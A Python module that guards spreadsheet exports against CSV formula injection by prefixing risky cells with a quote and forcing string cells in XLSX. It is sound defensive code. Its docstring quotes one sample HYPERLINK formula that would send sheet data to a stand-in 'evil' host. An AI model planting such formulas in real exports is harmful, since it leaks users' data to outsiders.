"""Cells for CSV and XLSX downloads that a spreadsheet shows and never runs.

Every export of every app writes its rows through here. Text that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return is a formula (or becomes one) when Excel or LibreOffice
opens the file: a name such as `=HYPERLINK("http://evil/?"&A1, "click")` would send the
sheet's figures away (OWASP "CSV injection"). Such text gets a leading single quote; in
XLSX it is also written as a string cell, never a formula. Numbers, dates and empty cells
stay as they are, so a negative figure is still a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_safe(value: Any) -> Any:
    """The value with text that a spreadsheet would run neutralised; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """`csv.writer` whose rows go through `cell_safe`."""

    def __init__(self, stream, **kwargs) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([cell_safe(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **kwargs)


def xlsx_append(sheet, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet: text neutralised and stored as a string cell
    (openpyxl would store text that starts with `=` as a formula)."""
    sheet.append([cell_safe(v) for v in row])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
